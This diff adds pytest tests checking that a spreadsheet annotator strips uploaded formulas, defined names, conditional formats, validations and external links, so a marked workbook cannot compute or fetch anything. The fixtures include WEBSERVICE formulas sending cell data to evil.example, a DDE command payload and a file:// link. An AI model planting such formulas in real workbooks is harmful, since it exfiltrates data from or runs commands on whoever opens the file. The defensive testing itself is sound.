@@ -1,12 +1,18 @@
 """The marked workbook: exactly the bad cells are red, whatever the file was."""
 
 import io
+import re
+import zipfile
 from datetime import date
 from pathlib import Path
 from typing import Any
 
 import pytest
 from openpyxl import load_workbook
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.formula import ArrayFormula
 
 from sheets.annotate import annotate
 from sheets.marking import AMBER, RED
@@ -123,3 +129,55 @@ def test_a_formula_in_a_csv_stays_text(tmp_path: Path) -> None:
     )
     for sheet in marked.worksheets:
         assert all(cell.data_type != "f" for cells in sheet.iter_rows() for cell in cells)
+
+
+def test_nothing_in_a_marked_workbook_computes_or_fetches(tmp_path: Path) -> None:
+    """The uploader's formulas, names, formats and links would act on the machine of whoever opens the file."""
+    good = ["Konkan", "Mumbai Suburban", "Andheri", "disputed", "2026-11-18", 1, 2, 3, 4]
+    book = load_workbook(
+        io.BytesIO(xlsx_bytes([[*HEAD, "remarks"], good, [*good[:2], "Atlantis", *good[3:]]]))
+    )
+    sheet, other = book.worksheets[0], book.create_sheet("Notes")
+    fetch = '=WEBSERVICE("https://evil.example/"&A2)'
+    for cell in (sheet["J2"], sheet["J3"], sheet["L9"], other["B2"]):
+        cell.value = fetch
+    other["A1"] = "=cmd|'/c calc'!A0"
+    other["A2"] = ArrayFormula("A2:A3", fetch)
+    other["A4"].value, other["A4"].hyperlink = "open", "file://evil.example/share"
+    book.defined_names["Fetched"] = DefinedName("Fetched", attr_text=fetch[1:])
+    sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=[fetch[1:]]))
+    sheet.add_data_validation(DataValidation("list", formula1=fetch, sqref="A2"))
+    sheet.add_data_validation(DataValidation("list", formula1="Notes!$A$1:$A$9", sqref="B2"))
+    out = io.BytesIO()
+    book.save(out)
+
+    verdict = check(read_bytes(tmp_path, out.getvalue(), "a.xlsx"))
+    marked = annotate(tmp_path / "original.bin", "a.xlsx", "xlsx", verdict.issues, "en")
+    with zipfile.ZipFile(io.BytesIO(marked)) as parts:
+        for name in parts.namelist():
+            content = parts.read(name)
+            assert not re.search(
+                rb'<(?:\w+:)?f[ >/]|<definedName |conditionalFormatting|Target="[^#"][^>]*TargetMode', content
+            ), name
+    given = load_workbook(io.BytesIO(marked))
+    assert (given.worksheets[0]["J2"].value, given["Notes"]["B2"].value) == (fetch, fetch)
+    assert given.worksheets[0]["J2"].data_type == "s"
+    assert [rule.formula1 for rule in given.worksheets[0].data_validations.dataValidation] == [
+        "Notes!$A$1:$A$9"
+    ]
+
+
+def test_a_computed_cell_comes_back_as_its_value(tmp_path: Path) -> None:
+    good = ["Konkan", "Mumbai Suburban", "Atlantis", "disputed", "2026-11-18", 1, 2, 3, 4]
+    with zipfile.ZipFile(io.BytesIO(xlsx_bytes([HEAD, good]))) as parts:
+        content = {name: parts.read(name) for name in parts.namelist()}
+    page = "xl/worksheets/sheet1.xml"
+    computed = re.sub(rb'(<c r="F2"[^>]*>)<v>1</v>', rb"\1<f>40+2</f><v>42</v>", content[page])
+    assert computed != content[page]
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as parts:
+        for name, body in (content | {page: computed}).items():
+            parts.writestr(name, body)
+    verdict = check(read_bytes(tmp_path, out.getvalue(), "a.xlsx"))
+    marked = annotate(tmp_path / "original.bin", "a.xlsx", "xlsx", verdict.issues, "en")
+    assert load_workbook(io.BytesIO(marked)).worksheets[0]["F2"].value == 42
